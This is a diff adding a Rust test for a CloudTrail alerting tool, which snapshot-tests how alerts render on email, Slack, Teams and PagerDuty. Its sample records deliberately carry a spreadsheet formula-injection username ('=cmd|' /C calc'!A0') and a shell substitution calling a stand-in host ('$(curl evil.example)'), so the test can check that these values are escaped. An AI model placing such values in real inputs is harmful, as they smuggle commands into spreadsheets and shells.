@@ -1,0 +1,140 @@
+//! One story, told on every channel. The alerts of the sample events, and a few that those lack; read a changed snapshot as its
+//! receiver would.
+
+use std::fs;
+
+use serde_json::{Value, json as value};
+use trailhound::engine::Organisation;
+use trailhound::local::Folder;
+use trailhound::notify::{Notification, pagerduty, slack, teams};
+use trailhound::rule_pack::{self, RuleSource};
+use trailhound::yaml::SourceFile;
+
+use crate::support::{World, compile, events, record, rule, trail_file, with};
+
+/// What the sample events tell, with the shipped rules and the sample configuration, and with a correlation.
+async fn alerts() -> Vec<Notification> {
+    let config = SourceFile::new("trailhound.yaml", fs::read_to_string(events().join("trailhound.yaml")).unwrap());
+    let loaded = rule_pack::load(&[RuleSource::Core], &Organisation::parse(&config).unwrap());
+    let mut world = World::new(loaded.rules);
+    world.pipeline.handling.own_rules = loaded.own;
+    world.pipeline.objects = Folder::new(events().join("objects")).unwrap();
+    let payload = fs::read_to_string(events().join("sqs-s3-batch.json")).unwrap();
+    world.pipeline.handle(&payload).await;
+    let payload = fs::read_to_string(events().join("s3-put.json")).unwrap();
+    world.pipeline.handle(&payload).await;
+    let mut alerts = world.alerts();
+    alerts.extend(few_more().await);
+    alerts
+}
+
+/// A burst, a denial, a correlation, a title with a value, and what a shell or a spreadsheet would take for something else.
+async fn few_more() -> Vec<Notification> {
+    let yaml = rule("  sel: {eventName: StopLogging}\n  condition: sel\n")
+        .replace("title: Test", "title: CloudTrail logging stopped")
+        + "trailhound: {alert: {title: 'Trail {requestParameters.name} stopped', commands: ['aws cloudtrail start-logging --region {awsRegion} --name {requestParameters.name}']}}\n"
+        + "---\ntitle: Access key created\nid: key\nname: key\nlogsource: {product: aws, service: cloudtrail}\ndetection: {sel: {eventName: CreateAccessKey}, condition: sel}\n"
+        + "---\ntitle: Many access keys created\nid: keys\nlevel: critical\ncorrelation: {type: event_count, rules: [key], group-by: [userIdentity.userName], timespan: 10m, condition: {gte: 3}}\n";
+    let world = World::new(compile(&yaml, "accounts: {'111122223333': prod}").0);
+    let at = |name: &str, minute: u32, changes: &[(&str, Value)]| {
+        let time = value!(format!("2026-11-05T10:{minute:02}:00Z"));
+        with(with(record(name, &format!("e{minute}-{name}")), &[("/eventTime", time)]), changes)
+    };
+    let denied = [("/errorCode", value!("AccessDenied")), ("/awsRegion", value!("us-gov-west-1"))];
+    let by = value!({"type": "IAMUser", "userName": "=cmd|' /C calc'!A0", "arn": "arn:aws:iam::111122223333:user/=cmd|' /C calc'!A0", "accountId": "111122223333"});
+    let records = [
+        at("StopLogging", 0, &[]),
+        at("StopLogging", 1, &[("/requestParameters/name", value!("other-trail"))]),
+        at("StopLogging", 2, &denied),
+        at("StopLogging", 3, &[("/userIdentity", by), ("/requestParameters/name", value!("$(curl evil.example)"))]),
+        at("CreateAccessKey", 4, &[]),
+        at("CreateAccessKey", 5, &[]),
+        at("CreateAccessKey", 6, &[]),
+    ];
+    world.notify(&[&world.put("a", &trail_file(&records))]).await;
+    world.alerts()
+}
+
+fn json(text: &str) -> Value {
+    serde_json::from_str(text).unwrap()
+}
+
+/// A message as its reader sees it: the kind of each block, and its texts with their markup.
+fn readable(message: &Value) -> String {
+    let list = |value: &Value| value.as_array().cloned().unwrap_or_default();
+    let text = |value: &Value| value["text"].as_str().unwrap_or_default().to_owned();
+    // Slack.
+    let block = |block: &Value| {
+        let texts = list(&block["fields"]).iter().chain(&list(&block["elements"])).map(text).collect::<Vec<_>>();
+        let own = block["text"].get("text").map(|_| text(&block["text"]));
+        format!("[{}] {}", block["type"].as_str().unwrap(), own.into_iter().chain(texts).collect::<Vec<_>>().join("\n"))
+    };
+    let blocks = list(&message["blocks"]);
+    // Teams.
+    let card = &message["attachments"][0]["content"];
+    let bold = |run: &Value| if run["weight"] == "Bolder" { format!("**{}**", text(run)) } else { text(run) };
+    let runs = |block: &Value| list(&block["inlines"]).iter().map(bold).collect::<String>();
+    let element = |element: &Value| match element.get("items") {
+        Some(items) => list(items).iter().map(|item| format!("| {}", runs(item))).collect::<Vec<_>>().join("\n"),
+        None => runs(element),
+    };
+    let body = list(&card["body"]);
+    let actions = list(&card["actions"]);
+    let action =
+        |action: &Value| format!("({}) {}", action["title"].as_str().unwrap(), action["url"].as_str().unwrap());
+    let lines = blocks.iter().map(block).chain(body.iter().map(element)).chain(actions.iter().map(action));
+    lines.collect::<Vec<_>>().join("\n")
+}
+
+fn all(alerts: &[Notification], form: impl Fn(&Notification) -> String) -> String {
+    let rule = "=".repeat(72);
+    alerts.iter().map(|alert| format!("{rule}\n{}\n", form(alert).trim_end())).collect()
+}
+
+/// The lines of a member that is text.
+fn lines(value: &Value, indent: &str) -> String {
+    match value {
+        Value::Object(members) => members
+            .iter()
+            .map(|(name, member)| match member {
+                Value::Object(_) | Value::Array(_) => {
+                    format!("{indent}{name}:\n{}", lines(member, &format!("{indent}  ")))
+                }
+                member => format!("{indent}{name}: {}", lines(member, "")),
+            })
+            .collect(),
+        Value::Array(items) => {
+            items.iter().map(|item| format!("{indent}- {}", lines(item, "").replace('\n', " ")) + "\n").collect()
+        }
+        Value::String(text) => text.clone() + "\n",
+        other => format!("{other}\n"),
+    }
+}
+
+#[tokio::test]
+async fn alerts_read_well_on_every_channel() {
+    let alerts = alerts().await;
+    assert!(alerts.len() >= 20, "{}", alerts.len());
+    insta::assert_snapshot!("email", all(&alerts, |alert| format!("Subject: {}\n\n{}", alert.subject, alert.text)));
+    insta::assert_snapshot!("chat", all(&alerts, |alert| lines(&json(&alert.chat)["content"], "")));
+    insta::assert_snapshot!("slack", all(&alerts, |alert| readable(&json(&slack::message(&alert.story)))));
+    insta::assert_snapshot!("teams", all(&alerts, |alert| readable(&json(&teams::message(&alert.story)))));
+    insta::assert_snapshot!(
+        "pagerduty",
+        all(&alerts, |alert| lines(&json(&pagerduty::event(&alert.story, "KEY")), ""))
+    );
+    let stories: Vec<_> = alerts.iter().map(|alert| &*alert.story).collect();
+    let bursts = [slack::burst(&stories), teams::burst(&stories)];
+    insta::assert_snapshot!("bursts", bursts.map(|burst| readable(&json(&burst))).join("\n\n"));
+}
+
+/// One of each in full: what the channels are sent.
+#[tokio::test]
+async fn messages_have_the_shape_that_their_channel_takes() {
+    let alerts = alerts().await;
+    let alert = alerts.iter().find(|alert| alert.subject.contains("KMS key scheduled")).unwrap();
+    let story = &alert.story;
+    insta::assert_json_snapshot!("slack_in_full", json(&slack::message(story)));
+    insta::assert_json_snapshot!("teams_in_full", json(&teams::message(story)));
+    insta::assert_json_snapshot!("reduced", [json(&slack::reduced(story)), json(&teams::reduced(story))]);
+}
